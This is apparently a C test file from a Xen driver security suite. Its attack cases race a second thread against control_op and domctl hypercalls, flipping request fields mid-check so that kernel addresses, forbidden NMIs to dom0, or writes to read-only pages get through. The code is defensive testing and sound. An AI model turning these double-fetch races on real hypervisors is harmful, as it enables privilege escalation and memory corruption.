// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-ENV-RACE: a second thread that rewrites a request while it is being judged.
 *
 * One word of the request changes all the time between two values: with the one
 * the call is in order, with the other it is refused. Whoever reads it twice,
 * once to judge and once to act, will at some time act on what it has not
 * judged.
 */
#include "envelope.h"

#include <pthread.h>
#include <sched.h>
#include <sys/mman.h>

#include "../entry/vcpu.h"

/* ---- two threads ---- */

/*
 * Through each of two doors, so that each race has 10^5. With one CPU a race is
 * hardly ever won: there it is only begun.
 */
#define NR_ROUNDS     50000U
#define NR_ROUNDS_ONE 5000U
#define NR_BETWEEN    16U /* rounds, at most, between two flips */
#define SECONDS       120 /* without a flip: the second thread stands still */

struct race {
    /* Flips between the two values, or, where there is no word, by @flip. */
    volatile uint64_t *word;
    uint64_t values[2];
    void (*flip)(unsigned int value);
    /* One round: returns what the call came to. */
    long (*round)(void);
    bool (*happened)(void);
};

static volatile bool over;
static volatile unsigned int flips;

static bool one_cpu(void)
{
    static long cpus;

    if ( !cpus )
        cpus = sysconf(_SC_NPROCESSORS_ONLN);

    return cpus == 1;
}

/* With one CPU a thread that never lets go leaves the other few chances. */
static void let_go(void)
{
    if ( one_cpu() )
        sched_yield();
}

static void *flip(void *arg)
{
    const struct race *race = arg;

    for ( unsigned int value = 1; !over; value = !value )
    {
        if ( race->word )
            *race->word = race->values[value];
        else
            race->flip(value);
        flips++;
        let_go();
    }

    return NULL;
}

/*
 * However the machine schedules the two threads, the second gets its turns.
 * What bounds a race is a thread that stands still, not one that is slow.
 */
static void wait_for_flip(void)
{
    static unsigned int flips_before;

    alarm(SECONDS);
    while ( flips == flips_before )
        rest(1);
    flips_before = flips;
}

static bool run(const struct race *race, const char *what)
{
    const unsigned int nr_rounds = one_cpu() ? NR_ROUNDS_ONE : NR_ROUNDS;
    unsigned int rounds, taken = 0;
    bool happened = false;
    pthread_t thread;

    if ( pthread_create(&thread, NULL, flip, (void *)race) )
        return missing("no second thread");

    for ( rounds = 1; rounds <= nr_rounds && !happened; rounds++ )
    {
        taken += race->round() >= 0;
        let_go();
        if ( rounds % NR_BETWEEN == 0 )
            wait_for_flip();
        happened = rounds % 64 == 0 && race->happened();
    }
    over = true;
    pthread_join(thread, NULL);
    happened = happened || race->happened();

    return seen(happened, "%s %s; %u rounds, %u carried out, %u flips", what,
                happened ? "changed" : "unchanged", rounds - 1, taken, flips);
}

/* ---- the request of the kernel's ---- */

/* What is written are bytes that the kernel's version is not. */
static bool race_for_version(struct race *race)
{
    race->happened = version_differs;
    set_uuid(new_mark());
    watch_version();

    return run(race, "the kernel's version");
}

static struct control_op_call *racing;
static uint32_t racing_size;

static long one_call(void)
{
    return issue_in_place(racing, racing_size);
}

/*
 * U-ENV-RACE-HEADER: the number of buffers, one or two.
 *
 * What is sent has room for one, which is ours. The second, to which the call
 * refers, would be read from behind it, and is the kernel's.
 */
ENV_ATTACK("U-ENV-RACE-HEADER", "control_op: race for the number of buffers")
{
    struct race race = { .round = one_call };
    struct control_op_call *call = racing = handle_call(NULL);

    declare(call, fenced(MARK_SIZE), MARK_SIZE);
    racing_size = (uint32_t)call_size(call);
    race.word = (volatile uint64_t *)&call->version; /* and what follows it */
    race.values[0] = *race.word;
    call->args[1] = declare_at(call, victim(), MARK_SIZE);
    race.values[1] = *race.word;

    return race_for_version(&race);
}

static struct control_op_ioctl racing_ioctl;

static long one_ioctl(void)
{
    return issue_ioctl_at(&racing_ioctl);
}

/*
 * U-ENV-RACE-IOCTL: how many calls there are, and how long they are.
 *
 * The first is in order; the second has a buffer in the kernel.
 */
ENV_ATTACK("U-ENV-RACE-IOCTL", "control_op: race for the number of calls")
{
    struct race race = { .round = one_ioctl };
    struct control_op_call *first = handle_call(fenced(MARK_SIZE)), *second;

    second = (void *)((char *)first + call_size(first));
    memcpy(second, handle_call(NULL), sizeof(*second));
    second->args[1] = declare_at(second, victim(), MARK_SIZE);

    racing_ioctl.calls = (uintptr_t)first;
    race.word = (volatile uint64_t *)&racing_ioctl.size;
    race.values[0] = call_size(first) | 1UL << 32;
    race.values[1] = (call_size(first) + call_size(second)) | 2UL << 32;
    *race.word = race.values[0];

    return race_for_version(&race);
}

/*
 * Memory of ours whose address begins as the kernel's does. A copy may see half
 * of a change: what is torn out of the two must not hit any other memory that
 * we have.
 */
static char *beside_victim(void)
{
    const uint64_t low = 0xffffffff, high = 0x7e0000000000,
                   address = high | (victim() & low);
    char *page = mmap(
        (void *)(address & PAGE_MASK), 2 * PAGE_SIZE, PROT_READ | PROT_WRITE,
        MAP_FIXED | MAP_SHARED | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);

    return page == MAP_FAILED ? NULL : page + address % PAGE_SIZE;
}

/* U-ENV-RACE-BUFFERS: the address of a buffer, ours or the kernel's. */
ENV_ATTACK("U-ENV-RACE-BUFFERS", "control_op: race for a buffer's address")
{
    struct race race = { .round = one_call };
    char *own = beside_victim();

    if ( !own )
        return missing("no memory at the address wanted");

    racing = handle_call(own);
    racing_size = (uint32_t)call_size(racing);
    race.word = &racing->buffers[0].address;
    race.values[0] = (uintptr_t)own;
    race.values[1] = victim();

    return race_for_version(&race);
}

/* ---- the payload, which is Xen's to judge ---- */

static struct xen_sysctl *racing_sysctl;

static long one_console_read(void)
{
    racing_sysctl->u.readconsole.index = (uint32_t)getpid() % 1024;
    return has_door() ? one_call() : issue(racing);
}

/* U-ENV-RACE-PAYLOAD: a pointer, a reference or the kernel's address. */
RAW_ATTACK("U-ENV-RACE-PAYLOAD", "control_op: race for a pointer in a payload")
{
    struct race race = { .round = one_console_read };

    racing = console_call(&racing_sysctl, (uintptr_t)fenced(MARK_SIZE),
                          MARK_SIZE, MARK_SIZE);
    racing_size = (uint32_t)call_size(racing);
    race.word = (volatile uint64_t *)&racing_sysctl->u.readconsole.buffer;
    race.values[0] = *race.word;
    race.values[1] = victim();

    return race_for_version(&race);
}

/*
 * U-ENV-RACE-COUNT: how many bytes are read, as many as the buffer has or more.
 */
ENV_ATTACK("U-ENV-RACE-COUNT", "control_op: race for a count in a payload")
{
    struct race race = { .round = one_console_read, .happened = fences_broken };

    racing = console_call(&racing_sysctl, (uintptr_t)fenced(MARK_SIZE),
                          MARK_SIZE, MARK_SIZE);
    racing_size = (uint32_t)call_size(racing);
    race.word = (volatile uint64_t *)&racing_sysctl->u.readconsole.count;
    race.values[0] = MARK_SIZE;
    race.values[1] = PAGE_SIZE;

    return run(&race, "memory behind the buffer");
}

/* ---- what is done, and to whom ---- */

static struct xen_domctl *racing_domctl;
static unsigned long nmis_before;

static bool nmi_taken(void)
{
    return interrupts("NMI:") > nmis_before;
}

static long one_domctl(void)
{
    memset(&racing_domctl->u, 0, sizeof(racing_domctl->u));
    return has_door() ? one_call() : issue(racing);
}

static bool race_for_nmi(struct race *race)
{
    race->round = one_domctl;
    race->happened = nmi_taken;
    racing_size = (uint32_t)call_size(racing);
    nmis_before = interrupts("NMI:");

    return run(race, "the count of NMIs");
}

/*
 * U-ENV-RACE-CMD: the command, one that reads or one that sends an NMI.
 *
 * dom0 may ask about itself through control_op, and not send itself NMIs.
 */
RAW_ATTACK("U-ENV-RACE-CMD", "control_op: race for the command of a domctl")
{
    struct race race = { 0 };

    racing = DOMCTL_CALL(getdomaininfo, 0);
    racing_domctl = structure_of(racing);
    race.word = (volatile uint64_t *)racing_domctl;
    race.values[0] = *race.word;
    racing_domctl->cmd = XEN_DOMCTL_sendtrigger;
    race.values[1] = *race.word;

    return race_for_nmi(&race);
}

/*
 * U-ENV-RACE-DOMAIN: the target, another domain or dom0.
 *
 * The other one does not exist, which Xen finds out after it has judged.
 */
RAW_ATTACK("U-ENV-RACE-DOMAIN", "control_op: race for the target of a domctl")
{
    static const domid_t no_domain = 0x7000;
    struct race race = { 0 };

    racing = DOMCTL_CALL(sendtrigger, no_domain);
    racing_domctl = structure_of(racing);
    race.word = (volatile uint64_t *)&racing_domctl->domain;
    race.values[0] = *race.word;
    racing_domctl->domain = 0;
    race.values[1] = *race.word;

    return race_for_nmi(&race);
}

/* ---- the memory itself ---- */

static uint8_t *moving;
static int file = -1;

/* Put memory of our own there, or a page of a file that we may only read. */
static void remap(unsigned int value)
{
    if ( value )
        mmap(moving, PAGE_SIZE, PROT_READ,
             MAP_FIXED | MAP_SHARED | MAP_POPULATE, file, 0);
    else
        mmap(moving, PAGE_SIZE, PROT_READ | PROT_WRITE,
             MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
}

static bool file_differs(void)
{
    return file_changed(file);
}

/*
 * U-ENV-RACE-UNMAP: take the buffer away while it is written to.
 *
 * In its place comes memory that is not ours to write, a file's; were the
 * kernel to hand Xen anything but our address, it would also be memory that has
 * become someone else's by then.
 */
ENV_ATTACK("U-ENV-RACE-UNMAP", "control_op: race for what is mapped")
{
    const struct race race = { .flip = remap,
                               .round = one_call,
                               .happened = file_differs };

    file = new_file("/env-race");
    if ( file < 0 )
        return missing("no file to map");
    unlink("/env-race");

    moving = fenced(PAGE_SIZE);
    racing = handle_call(moving);
    racing_size = (uint32_t)call_size(racing);

    set_uuid(new_mark());
    return run(&race, "the file");
}
